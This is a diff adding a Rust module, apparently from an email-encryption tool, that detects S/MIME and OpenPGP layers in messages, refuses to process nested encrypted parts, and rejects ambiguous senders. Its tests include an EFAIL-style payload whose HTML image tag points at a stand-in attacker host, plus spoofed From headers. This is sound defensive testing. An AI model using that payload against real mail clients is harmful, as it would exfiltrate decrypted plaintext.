@@ -1,0 +1,881 @@
+//! Finding the cryptographic layer of a message (or of a decrypted / verified inner entity),
+//! so `open` can hand the right bytes to the right engine.
+//!
+//! Recognised top-level forms:
+//!
+//! - S/MIME `application/pkcs7-mime` (and `application/x-pkcs7-mime`, and the `smime.p7m`
+//!   `application/octet-stream` attachment Outlook sends) with `smime-type` enveloped-data,
+//!   authEnveloped-data or signed-data (RFC 8551 §3.2, §3.4, §3.5.2; RFC 5083). The CMS
+//!   content type inside the DER decides when it is readable; `smime-type` is only a hint.
+//! - S/MIME `multipart/signed` with protocol `application/pkcs7-signature` (or `x-`) and
+//!   PGP/MIME `multipart/signed` with `application/pgp-signature` (RFC 1847 §2.1, RFC 8551
+//!   §3.5.3, RFC 3156 §5): the exact signed bytes and the decoded signature.
+//! - PGP/MIME `multipart/encrypted` (RFC 3156 §4): the `application/octet-stream` payload.
+//! - Inline OpenPGP in a `text/plain` or `text/html` body (RFC 4880 §6.2, §7): armored
+//!   message or cleartext-signed message, possibly with text around it (then `partial`).
+//! - A message that is just an OpenPGP file (`.pgp`, `.gpg`, `.asc`).
+//!
+//! Only the top-level layer is a candidate. Cryptographic parts nested inside ordinary
+//! multiparts are listed in [`Detected::nested`] and never decrypted or verified: mixing
+//! decrypted content with attacker-chosen parts is how EFAIL exfiltrates plaintext.
+//! `open` calls [`detect`] again on the content of each layer it removes (a decrypted
+//! entity, a signed part), which handles sign-then-encrypt and encrypt-then-sign.
+//!
+//! Also here: the sender's addr-spec from `From` (RFC 5322 §3.6.2), refusing messages with
+//! several `From` fields or mailboxes.
+
+use core::ops::Range;
+
+use der::Decode as _;
+use mail_parser::{Address, HeaderName, HeaderValue};
+
+use super::parse::{MimeTree, Part, PartId};
+use crate::report::Method;
+
+/// The CMS content type of an S/MIME payload.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SmimeKind {
+    /// EnvelopedData (RFC 5652 §6): `smime-type=enveloped-data`.
+    Enveloped,
+    /// AuthEnvelopedData (RFC 5083, AES-GCM): `smime-type=authEnveloped-data`.
+    AuthEnveloped,
+    /// SignedData with the content inside (opaque signing): `smime-type=signed-data`.
+    Signed,
+    /// CompressedData (RFC 3274), which mailseal does not read.
+    Compressed,
+    /// `certs-only` or a content type mailseal does not know.
+    Other,
+}
+
+/// Where an OpenPGP encrypted message was found.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PgpForm {
+    /// PGP/MIME `multipart/encrypted` (RFC 3156 §4).
+    Mime,
+    /// Armored in a text body; `partial` when there is text around it or other parts
+    /// beside it, which the encryption does not cover.
+    Inline {
+        /// Other content shares the message with the armored block.
+        partial: bool,
+    },
+    /// The whole message is one OpenPGP file attachment.
+    Attachment {
+        /// Its file name.
+        filename: String,
+    },
+}
+
+/// A detached signature: the exact signed bytes and the signature.
+#[derive(Clone, PartialEq, Eq)]
+pub struct Detached {
+    /// The signed part exactly as in the input (RFC 1847 §2.1): headers and body, without
+    /// the CRLF before the next delimiter. Verify over these bytes; when the input used bare
+    /// LF line ends, over [`Detached::signed_crlf`] (the canonical form the signer hashed,
+    /// RFC 5751 §3.1.1 / RFC 3156 §5).
+    pub signed: Vec<u8>,
+    /// The signed part's position in the input.
+    pub signed_range: Range<usize>,
+    /// The part id of the signed entity.
+    pub signed_part: PartId,
+    /// The signature: DER (S/MIME, transfer-decoded) or armored text (OpenPGP).
+    pub signature: Vec<u8>,
+    /// The `micalg` parameter, lower-case, when present (informative only: the signature
+    /// itself names its digest).
+    pub micalg: Option<String>,
+}
+
+impl core::fmt::Debug for Detached {
+    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
+        f.debug_struct("Detached")
+            .field("signed_range", &self.signed_range)
+            .field("signature_len", &self.signature.len())
+            .field("micalg", &self.micalg)
+            .finish()
+    }
+}
+
+impl Detached {
+    /// The signed bytes with every line end as CRLF (a copy only when needed).
+    pub fn signed_crlf(&self) -> std::borrow::Cow<'_, [u8]> {
+        if has_bare_line_ends(&self.signed) {
+            super::build::to_crlf(&self.signed).into()
+        } else {
+            self.signed.as_slice().into()
+        }
+    }
+}
+
+/// The cryptographic layer at the top of an entity.
+#[derive(Clone, PartialEq, Eq)]
+pub enum Layer {
+    /// No cryptographic layer.
+    Plain,
+    /// S/MIME `application/pkcs7-mime`: hand `payload` (DER ContentInfo) to
+    /// `Engine::decrypt` (enveloped kinds) or `Engine::verify_opaque` (signed).
+    SmimeMime {
+        /// What the CMS says it is (or `smime-type` when the DER does not parse).
+        kind: SmimeKind,
+        /// The DER ContentInfo.
+        payload: Vec<u8>,
+        /// The part it came from.
+        part: PartId,
+    },
+    /// S/MIME `multipart/signed`: `Engine::verify_detached`.
+    SmimeSigned(Detached),
+    /// OpenPGP encrypted (or signed-and-encrypted, or opaque signed) message:
+    /// `Engine::decrypt`, or `Engine::verify_opaque` when it turns out to be only signed.
+    PgpMessage {
+        /// How it was carried.
+        form: PgpForm,
+        /// Armored or binary OpenPGP message.
+        payload: Vec<u8>,
+        /// The part it came from.
+        part: PartId,
+    },
+    /// PGP/MIME `multipart/signed`: `Engine::verify_detached`.
+    PgpSigned(Detached),
+    /// Inline cleartext-signed text (`BEGIN PGP SIGNED MESSAGE`): `Engine::verify_opaque`.
+    PgpCleartext {
+        /// The armored block, from its BEGIN line to its END line, in the part's charset.
+        armored: Vec<u8>,
+        /// Text around the block, or other parts beside it, are not covered.
+        partial: bool,
+        /// The declared charset of the part, for decoding the verified text.
+        charset: Option<String>,
+        /// The part it came from.
+        part: PartId,
+    },
+    /// Looks like a cryptographic layer but cannot be read safely (wrong structure,
+    /// ambiguous headers, misaligned boundaries). `open` reports it as failed / invalid.
+    Malformed {
+        /// The standard it claims to be, when known.
+        method: Option<Method>,
+        /// A sentence for the agent.
+        detail: String,
+    },
+}
+
+impl core::fmt::Debug for Layer {
+    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
+        match self {
+            Layer::Plain => f.write_str("Plain"),
+            Layer::SmimeMime {
+                kind,
+                payload,
+                part,
+            } => f
+                .debug_struct("SmimeMime")
+                .field("kind", kind)
+                .field("payload_len", &payload.len())
+                .field("part", part)
+                .finish(),
+            Layer::SmimeSigned(d) => f.debug_tuple("SmimeSigned").field(d).finish(),
+            Layer::PgpMessage {
+                form,
+                payload,
+                part,
+            } => f
+                .debug_struct("PgpMessage")
+                .field("form", form)
+                .field("payload_len", &payload.len())
+                .field("part", part)
+                .finish(),
+            Layer::PgpSigned(d) => f.debug_tuple("PgpSigned").field(d).finish(),
+            Layer::PgpCleartext { partial, part, .. } => f
+                .debug_struct("PgpCleartext")
+                .field("partial", partial)
+                .field("part", part)
+                .finish(),
+            Layer::Malformed { method, detail } => f
+                .debug_struct("Malformed")
+                .field("method", method)
+                .field("detail", detail)
+                .finish(),
+        }
+    }
+}
+
+impl Layer {
+    /// The standard of this layer, if it is one.
+    pub fn method(&self) -> Option<Method> {
+        match self {
+            Layer::Plain => None,
+            Layer::SmimeMime { .. } | Layer::SmimeSigned(_) => Some(Method::Smime),
+            Layer::PgpMessage { .. } | Layer::PgpSigned(_) | Layer::PgpCleartext { .. } => {
+                Some(Method::Pgp)
+            }
+            Layer::Malformed { method, .. } => *method,
+        }
+    }
+
+    /// Whether this layer is (or may be) encryption.
+    pub fn is_encryption(&self) -> bool {
+        match self {
+            Layer::SmimeMime { kind, .. } => {
+                matches!(kind, SmimeKind::Enveloped | SmimeKind::AuthEnveloped)
+            }
+            Layer::PgpMessage { .. } => true,
+            _ => false,
+        }
+    }
+}
+
+/// What a nested (not top-level) cryptographic part is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum NestedKind {
+    /// `application/pkcs7-mime` (or a `.p7m` file).
+    SmimeMime,
+    /// `multipart/signed` with an S/MIME signature.
+    SmimeSigned,
+    /// `multipart/encrypted` or an OpenPGP file.
+    PgpEncrypted,
+    /// `multipart/signed` with an OpenPGP signature.
+    PgpSigned,
+    /// Armored OpenPGP in a text part.
+    PgpInline,
+}
+
+/// A cryptographic part below the top level: shown as present, never processed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Nested {
+    /// The part.
+    pub part: PartId,
+    /// What it looks like.
+    pub kind: NestedKind,
+    /// Its file name, if any.
+    pub filename: Option<String>,
+}
+
+/// The result of [`detect`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Detected {
+    /// The top-level cryptographic layer (or [`Layer::Plain`]).
+    pub layer: Layer,
+    /// Cryptographic parts found elsewhere in the tree (not processed).
+    pub nested: Vec<Nested>,
+}
+
+const PGP_MESSAGE_BEGIN: &[u8] = b"-----BEGIN PGP MESSAGE-----";
+const PGP_MESSAGE_END: &[u8] = b"-----END PGP MESSAGE-----";
+const PGP_SIGNED_BEGIN: &[u8] = b"-----BEGIN PGP SIGNED MESSAGE-----";
+const PGP_SIGNATURE_END: &[u8] = b"-----END PGP SIGNATURE-----";
+
+/// Classifies the top-level cryptographic layer of `tree` and lists nested ones.
+pub fn detect(tree: &MimeTree<'_>) -> Detected {
+    let root = tree.root();
+    let (layer, used) = top_layer(tree, root);
+    let mut nested = Vec::new();
+    for part in tree.parts() {
+        if part.id == root.id || used.contains(&part.id) || inside(tree, part, &used) {
+            continue;
+        }
+        if let Some(kind) = nested_kind(part) {
+            nested.push(Nested {
+                part: part.id,
+                kind,
+                filename: part.filename.clone(),
+            });
+        }
+    }
+    Detected { layer, nested }
+}
+
+/// Whether `part` lies inside one of the `used` parts (their content is the layer's).
+fn inside(tree: &MimeTree<'_>, part: &Part, used: &[PartId]) -> bool {
+    let mut p = part.parent;
+    while let Some(id) = p {
+        if used.contains(&id) {
+            return true;
+        }
+        p = tree.part(id).and_then(|x| x.parent);
+    }
+    false
+}
+
+/// The layer at `root`, and the parts it consumes (not to be reported as nested).
+fn top_layer(tree: &MimeTree<'_>, root: &Part) -> (Layer, Vec<PartId>) {
+    let ct = &root.content_type;
+    if root.ambiguous {
+        if let Some(method) = crypto_method_hint(tree, root) {
+            return (
+                malformed(
+                    method,
+                    "The message's MIME headers are repeated and ambiguous.",
+                ),
+                vec![root.id],
+            );
+        }
+    }
+    if let Some(layer) = smime_mime(root) {
+        return (layer, vec![root.id]);
+    }
+    match ct.mime.as_str() {
+        "multipart/signed" => (multipart_signed(tree, root), vec![root.id]),
+        "multipart/encrypted" => (multipart_encrypted(tree, root), vec![root.id]),
+        "text/plain" | "text/html" => match inline_pgp(root, false) {
+            Some(layer) => (layer, vec![root.id]),
+            None => (Layer::Plain, Vec::new()),
+        },
+        "multipart/alternative" => match inline_in_alternative(tree, root, false) {
+            Some((layer, id)) => (layer, vec![id]),
+            None => (Layer::Plain, Vec::new()),
+        },
+        "multipart/mixed" => {
+            // Enigmail/Thunderbird inline PGP with attachments: the first part is the
+            // armored text, the others are (individually encrypted) files.
+            let Some(first) = root.children.first().and_then(|&c| tree.part(c)) else {
+                return (Layer::Plain, Vec::new());
+            };
+            let found = match first.content_type.mime.as_str() {
+                "text/plain" | "text/html" => inline_pgp(first, true).map(|l| (l, first.id)),
+                "multipart/alternative" => inline_in_alternative(tree, first, true),
+                _ => None,
+            };
+            match found {
+                Some((layer, id)) => (layer, vec![id]),
+                None => (Layer::Plain, Vec::new()),
+            }
+        }
+        _ => match pgp_file(root) {
+            Some(layer) => (layer, vec![root.id]),
+            None => (Layer::Plain, Vec::new()),
+        },
+    }
+}
+
+fn malformed(method: Option<Method>, detail: &str) -> Layer {
+    Layer::Malformed {
+        method,
+        detail: detail.to_string(),
+    }
+}
+
+/// Whether any Content-Type field of an ambiguous part claims a cryptographic type, and
+/// which standard it names (`Some(None)`: cryptographic, standard unclear).
+fn crypto_method_hint(tree: &MimeTree<'_>, part: &Part) -> Option<Option<Method>> {
+    let mut found = None;
+    for v in tree.header_values(part.id, "content-type") {
+        let v = v.to_ascii_lowercase();
+        if v.contains("pkcs7") {
+            return Some(Some(Method::Smime));
+        }
+        if v.contains("pgp") {
+            return Some(Some(Method::Pgp));
+        }
+        if v.starts_with("multipart/signed") || v.starts_with("multipart/encrypted") {
+            found = Some(None);
+        }
+    }
+    found
+}
+
+fn is_pkcs7_mime(mime: &str) -> bool {
+    mime == "application/pkcs7-mime" || mime == "application/x-pkcs7-mime"
+}
+
+fn has_extension(name: &str, exts: &[&str]) -> bool {
+    let lower = name.trim().to_ascii_lowercase();
+    exts.iter().any(|e| lower.ends_with(e))
+}
+
+/// `application/pkcs7-mime`, or an `octet-stream` `.p7m` file (Outlook).
+fn smime_mime(part: &Part) -> Option<Layer> {
+    let ct = &part.content_type;
+    let p7m_file = part
+        .filename
+        .as_deref()
+        .is_some_and(|f| has_extension(f, &[".p7m"]));
+    if !(is_pkcs7_mime(&ct.mime) || (ct.is("application/octet-stream") && p7m_file)) {
+        return None;
+    }
+    if part.damaged || part.body.is_empty() {
+        return Some(malformed(
+            Some(Method::Smime),
+            "The S/MIME part is damaged or empty.",
+        ));
+    }
+    let hint = ct.param("smime-type").map(|t| t.to_ascii_lowercase());
+    let kind = cms_kind(&part.body).unwrap_or(match hint.as_deref() {
+        Some("enveloped-data") => SmimeKind::Enveloped,
+        Some("authenveloped-data") => SmimeKind::AuthEnveloped,
+        Some("signed-data") => SmimeKind::Signed,
+        Some("compressed-data") => SmimeKind::Compressed,
+        _ => SmimeKind::Other,
+    });
+    Some(Layer::SmimeMime {
+        kind,
+        payload: part.body.clone(),
+        part: part.id,
+    })
+}
+
+/// The CMS content type of a DER ContentInfo (RFC 5652 §3), if it parses.
+pub(crate) fn cms_kind(der: &[u8]) -> Option<SmimeKind> {
+    use const_oid::db::{rfc5911, rfc6268};
+    let info = cms::content_info::ContentInfo::from_der(der).ok()?;
+    let oid = info.content_type;
+    Some(if oid == rfc5911::ID_ENVELOPED_DATA {
+        SmimeKind::Enveloped
+    } else if oid == rfc5911::ID_CT_AUTH_ENVELOPED_DATA {
+        SmimeKind::AuthEnveloped
+    } else if oid == rfc5911::ID_SIGNED_DATA {
+        SmimeKind::Signed
+    } else if oid == rfc6268::ID_CT_COMPRESSED_DATA {
+        SmimeKind::Compressed
+    } else {
+        SmimeKind::Other
+    })
+}
+
+fn multipart_signed(tree: &MimeTree<'_>, root: &Part) -> Layer {
+    let protocol = root
+        .content_type
+        .param("protocol")
+        .map(|p| p.trim().to_ascii_lowercase());
+    let sig_part = root.children.get(1).and_then(|&c| tree.part(c));
+    // The protocol parameter names the signature type; when it is missing, the signature
+    // part's type decides (some gateways drop parameters).
+    let proto = protocol
+        .clone()
+        .or_else(|| sig_part.map(|p| p.content_type.mime.clone()))
+        .unwrap_or_default();
+    let method = match proto.as_str() {
+        "application/pkcs7-signature" | "application/x-pkcs7-signature" => Method::Smime,
+        "application/pgp-signature" => Method::Pgp,
+        _ => {
+            return malformed(
+                None,
+                "The signed message uses a signature type mailseal does not know.",
+            )
+        }
+    };
+    let [signed_id, sig_id] = root.children.as_slice() else {
+        return malformed(
+            Some(method),
+            "The signed message does not have exactly two parts (content and signature).",
+        );
+    };
+    let (Some(signed), Some(sig)) = (tree.part(*signed_id), tree.part(*sig_id)) else {
+        return malformed(Some(method), "The signed message is damaged.");
+    };
+    if !signed.exact || !sig.exact || root.damaged || sig.damaged || sig.ambiguous {
+        return malformed(
+            Some(method),
+            "The signed message's MIME boundaries are misplaced; the signed part cannot be located exactly.",
+        );
+    }
+    let sig_type_ok = match method {
+        Method::Smime => matches!(
+            sig.content_type.mime.as_str(),
+            "application/pkcs7-signature"
+                | "application/x-pkcs7-signature"
+                | "application/octet-stream"
+        ),
+        Method::Pgp => sig.content_type.is("application/pgp-signature"),
+    };
+    if !sig_type_ok || sig.body.is_empty() {
+        return malformed(
+            Some(method),
+            "The signature part of the signed message is missing or of the wrong type.",
+        );
+    }
+    let d = Detached {
+        signed: tree.part_bytes(signed.id).to_vec(),
+        signed_range: signed.range.clone(),
+        signed_part: signed.id,
+        signature: sig.body.clone(),
+        micalg: root
+            .content_type
+            .param("micalg")
+            .map(|m| m.trim().to_ascii_lowercase()),
+    };
+    match method {
+        Method::Smime => Layer::SmimeSigned(d),
+        Method::Pgp => Layer::PgpSigned(d),
+    }
+}
+
+fn multipart_encrypted(tree: &MimeTree<'_>, root: &Part) -> Layer {
+    let protocol = root
+        .content_type
+        .param("protocol")
+        .map(|p| p.trim().to_ascii_lowercase());
+    if protocol.as_deref() != Some("application/pgp-encrypted") {
+        return malformed(
+            None,
+            "The encrypted message uses an encryption type mailseal does not know.",
+        );
+    }
+    // RFC 3156 §4: control part application/pgp-encrypted, then application/octet-stream.
+    let payload = root
+        .children
+        .iter()
+        .filter_map(|&c| tree.part(c))
+        .find(|p| p.content_type.is("application/octet-stream"));
+    match payload {
+        Some(p) if !p.body.is_empty() && root.children.len() == 2 => Layer::PgpMessage {
+            form: PgpForm::Mime,
+            payload: p.body.clone(),
+            part: p.id,
+        },
+        _ => malformed(
+            Some(Method::Pgp),
+            "The PGP/MIME encrypted message does not have the expected two parts.",
+        ),
+    }
+}
+
+/// Inline PGP in the text/plain (preferred) or text/html alternative.
+fn inline_in_alternative(
+    tree: &MimeTree<'_>,
+    alt: &Part,
+    partial: bool,
+) -> Option<(Layer, PartId)> {
+    let children: Vec<&Part> = alt.children.iter().filter_map(|&c| tree.part(c)).collect();
+    let plain = children.iter().find(|p| p.content_type.is("text/plain"));
+    let html = children.iter().find(|p| p.content_type.is("text/html"));
+    for p in [plain, html].into_iter().flatten() {
+        if let Some(layer) = inline_pgp(p, partial) {
+            return Some((layer, p.id));
+        }
+    }
+    None
+}
+
+/// An armored block in a text part (RFC 4880 §6.2 armor, §7 cleartext signature).
+fn inline_pgp(part: &Part, beside_other_parts: bool) -> Option<Layer> {
+    if part.is_attachment() {
+        return None;
+    }
+    let text: Vec<u8> = if part.content_type.is("text/html") {
+        html_to_text(part.text.as_deref().unwrap_or_default()).into_bytes()
+    } else {
+        part.body.clone()
+    };
+    let (range, signed) = find_armor(&text)?;
+    let outside = text[..range.start]
+        .iter()
+        .chain(&text[range.end..])
+        .any(|b| !b.is_ascii_whitespace());
+    let partial = outside || beside_other_parts;
+    let armored = text[range].to_vec();
+    Some(if signed {
+        Layer::PgpCleartext {
+            armored,
+            partial,
+            charset: part.content_type.param("charset").map(str::to_string),
+            part: part.id,
+        }
+    } else {
+        Layer::PgpMessage {
+            form: PgpForm::Inline { partial },
+            payload: armored,
+            part: part.id,
+        }
+    })
+}
+
+/// The range of the first armored message in `text`, from its BEGIN line to the end of its
+/// END line (to the end of the text when the END line is missing), and whether it is a
+/// cleartext-signed message. BEGIN must start a line.
+pub(crate) fn find_armor(text: &[u8]) -> Option<(Range<usize>, bool)> {
+    let mut line_start = 0;
+    while line_start < text.len() {
+        let rest = &text[line_start..];
+        let (begin_signed, end_marker) = if rest.starts_with(PGP_MESSAGE_BEGIN) {
+            (false, PGP_MESSAGE_END)
+        } else if rest.starts_with(PGP_SIGNED_BEGIN) {
+            (true, PGP_SIGNATURE_END)
+        } else {
+            line_start = match rest.iter().position(|&b| b == b'\n') {
+                Some(i) => line_start + i + 1,
+                None => text.len(),
+            };
+            continue;
+        };
+        let end = find_line(rest, end_marker).map_or(text.len(), |e| {
+            let after = line_start + e + end_marker.len();
+            let tail = &text[after..];
+            let n = tail
+                .iter()
+                .take_while(|&&b| b == b' ' || b == b'\t' || b == b'\r')
+                .count();
+            let with_nl = if tail.get(n) == Some(&b'\n') {
+                n + 1
+            } else {
+                n
+            };
+            after + with_nl
+        });
+        return Some((line_start..end, begin_signed));
+    }
+    None
+}
+
+/// Position of a line starting with `marker` in `text`.
+fn find_line(text: &[u8], marker: &[u8]) -> Option<usize> {
+    let mut i = 0;
+    while i < text.len() {
+        if text[i..].starts_with(marker) {
+            return Some(i);
+        }
+        i = match text[i..].iter().position(|&b| b == b'\n') {
+            Some(n) => i + n + 1,
+            None => return None,
+        };
+    }
+    None
+}
+
+/// A single-part message that is an OpenPGP file (`.pgp`, `.gpg`, or an armored `.asc`).
+fn pgp_file(part: &Part) -> Option<Layer> {
+    let filename = part.filename.as_deref()?;
+    let ct = part.content_type.mime.as_str();
+    if !matches!(
+        ct,
+        "application/octet-stream" | "application/pgp-encrypted" | "application/pgp"
+    ) || part.body.is_empty()
+    {
+        return None;
+    }
+    let is_file = if has_extension(filename, &[".pgp", ".gpg"]) {
+        true
+    } else if has_extension(filename, &[".asc"]) {
+        matches!(find_armor(&part.body), Some((_, false)))
+    } else {
+        false
+    };
+    is_file.then(|| Layer::PgpMessage {
+        form: PgpForm::Attachment {
+            filename: filename.to_string(),
+        },
+        payload: part.body.clone(),
+        part: part.id,
+    })
+}
+
+fn nested_kind(part: &Part) -> Option<NestedKind> {
+    let ct = &part.content_type;
+    if smime_mime(part).is_some() {
+        return Some(NestedKind::SmimeMime);
+    }
+    match ct.mime.as_str() {
+        "multipart/signed" => {
+            let proto = ct.param("protocol").unwrap_or("").to_ascii_lowercase();
+            Some(if proto.contains("pgp") {
+                NestedKind::PgpSigned
+            } else {
+                NestedKind::SmimeSigned
+            })
+        }
+        "multipart/encrypted" => Some(NestedKind::PgpEncrypted),
+        "text/plain" | "text/html" if inline_pgp(part, true).is_some() => {
+            Some(NestedKind::PgpInline)
+        }
+        _ => pgp_file(part).map(|_| NestedKind::PgpEncrypted),
+    }
+}
+
+/// A plain-text rendering of HTML (tags dropped, entities decoded), by mail-parser.
+pub(crate) fn html_to_text(html: &str) -> String {
+    mail_parser::decoders::html::html_to_text(html)
+}
+
+fn has_bare_line_ends(data: &[u8]) -> bool {
+    data.iter().enumerate().any(|(i, &b)| {
+        (b == b'\n' && (i == 0 || data[i - 1] != b'\r'))
+            || (b == b'\r' && data.get(i + 1) != Some(&b'\n'))
+    })
+}
+
+/// The sender as the `From` field names it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Sender {
+    /// Exactly one mailbox: its addr-spec, lower-case.
+    One(String),
+    /// No `From` field, or no usable address in it.
+    Missing,
+    /// Several `From` fields or several mailboxes (or a group): no single sender to bind a
+    /// signature to (RFC 5322 §3.6.2 asks for `Sender` then, which a signature does not
+    /// cover either).
+    Several,
+}
+
+impl Sender {
+    /// The single addr-spec, if there is exactly one.
+    pub fn address(&self) -> Option<&str> {
+        match self {
+            Sender::One(a) => Some(a),
+            _ => None,
+        }
+    }
+}
+
+/// The sender of the message (root `From` fields).
+///
+/// The addr-spec comes from the angle brackets when there are any: in
+/// `"alice@example.com" <mallory@evil.example>` the sender is `mallory@evil.example`.
+pub fn sender(tree: &MimeTree<'_>) -> Sender {
+    let froms: Vec<&HeaderValue<'_>> = tree
+        .root_headers()
+        .iter()
+        .filter(|h| h.name == HeaderName::From)
+        .map(|h| &h.value)
+        .collect();
+    match froms.as_slice() {
+        [] => Sender::Missing,
+        [one] => match one {
+            HeaderValue::Address(Address::List(list)) => match list.as_slice() {
+                [addr] => match addr.address.as_deref().and_then(addr_spec) {
+                    Some(a) => Sender::One(a),
+                    None => Sender::Missing,
+                },
+                [] => Sender::Missing,
+                _ => Sender::Several,
+            },
+            HeaderValue::Address(Address::Group(_)) => Sender::Several,
+            _ => Sender::Missing,
+        },
+        _ => Sender::Several,
+    }
+}
+
+/// A plausible addr-spec `local@domain`, lower-cased; `None` for anything else.
+pub(crate) fn addr_spec(a: &str) -> Option<String> {
+    let a = a.trim();
+    let (local, domain) = a.rsplit_once('@')?;
+    let ok = !local.is_empty()
+        && !domain.is_empty()
+        && !a
+            .chars()
+            .any(|c| c.is_whitespace() || c.is_control() || "<>(),;".contains(c))
+        && !domain.contains('@');
+    ok.then(|| a.to_lowercase())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::mime::parse::Limits;
+
+    fn detect_str(raw: &str) -> Detected {
+        let tree = MimeTree::parse(raw.as_bytes(), &Limits::default()).unwrap();
+        detect(&tree)
+    }
+
+    fn sender_of(from: &str) -> Sender {
+        let raw = format!("{from}\r\nSubject: x\r\n\r\nbody\r\n");
+        let tree = MimeTree::parse(raw.as_bytes(), &Limits::default()).unwrap();
+        sender(&tree)
+    }
+
+    #[test]
+    fn sender_takes_the_real_addr_spec() {
+        assert_eq!(
+            sender_of("From: \"alice@example.com\" <Mallory@Evil.example>"),
+            Sender::One("mallory@evil.example".into())
+        );
+        assert_eq!(
+            sender_of("From: alice@example.com <mallory@evil.example>"),
+            Sender::One("mallory@evil.example".into())
+        );
+        assert_eq!(
+            sender_of("From: =?UTF-8?Q?alice=40example=2Ecom?= <mallory@evil.example>"),
+            Sender::One("mallory@evil.example".into())
+        );
+        assert_eq!(
+            sender_of("From: Alice <alice@example.com>"),
+            Sender::One("alice@example.com".into())
+        );
+        assert_eq!(
+            sender_of("From: alice@example.com"),
+            Sender::One("alice@example.com".into())
+        );
+    }
+
+    #[test]
+    fn several_or_no_senders_bind_nobody() {
+        assert_eq!(
+            sender_of("From: alice@example.com\r\nFrom: mallory@evil.example"),
+            Sender::Several
+        );
+        assert_eq!(
+            sender_of("From: alice@example.com, mallory@evil.example"),
+            Sender::Several
+        );
+        assert_eq!(
+            sender_of("From: friends: alice@example.com;"),
+            Sender::Several
+        );
+        assert_eq!(sender_of("To: bob@example.com"), Sender::Missing);
+        assert_eq!(sender_of("From: nobody"), Sender::Missing);
+    }
+
+    #[test]
+    fn smime_mime_by_type_and_by_outlook_file_name() {
+        let d = detect_str("Content-Type: application/x-pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n");
+        assert!(matches!(
+            d.layer,
+            Layer::SmimeMime { kind: SmimeKind::Enveloped, ref payload, .. } if payload == &[0, 1, 2]
+        ));
+        let d = detect_str("Content-Type: application/octet-stream; name=\"smime.p7m\"\r\nContent-Disposition: attachment; filename=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n");
+        assert!(matches!(
+            d.layer,
+            Layer::SmimeMime {
+                kind: SmimeKind::Other,
+                ..
+            }
+        ));
+        let d = detect_str("Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n");
+        assert!(matches!(
+            d.layer,
+            Layer::SmimeMime {
+                kind: SmimeKind::AuthEnveloped,
+                ..
+            }
+        ));
+    }
+
+    #[test]
+    fn inline_pgp_with_text_around_is_partial() {
+        let d = detect_str("Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n");
+        assert!(matches!(
+            d.layer,
+            Layer::PgpMessage {
+                form: PgpForm::Inline { partial: false },
+                ..
+            }
+        ));
+        let d = detect_str("Content-Type: text/plain\r\n\r\nSee below\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n");
+        assert!(matches!(
+            d.layer,
+            Layer::PgpMessage {
+                form: PgpForm::Inline { partial: true },
+                ..
+            }
+        ));
+        let d = detect_str("Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhi\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\nwsB\r\n-----END PGP SIGNATURE-----\r\nfooter\r\n");
+        match d.layer {
+            Layer::PgpCleartext {
+                armored, partial, ..
+            } => {
+                assert!(partial);
+                assert!(armored.starts_with(PGP_SIGNED_BEGIN));
+                assert!(armored.ends_with(b"-----END PGP SIGNATURE-----\r\n"));
+            }
+            other => panic!("{other:?}"),
+        }
+        // Quoted armor is not a message.
+        let d = detect_str("Content-Type: text/plain\r\n\r\n> -----BEGIN PGP MESSAGE-----\r\n");
+        assert_eq!(d.layer, Layer::Plain);
+    }
+
+    #[test]
+    fn encrypted_part_inside_mixed_is_nested_not_decrypted() {
+        let raw = "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?\r\n--m\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n";
+        let d = detect_str(raw);
+        assert_eq!(d.layer, Layer::Plain);
+        assert_eq!(d.nested.len(), 1);
+        assert_eq!(d.nested[0].kind, NestedKind::SmimeMime);
+    }
+}
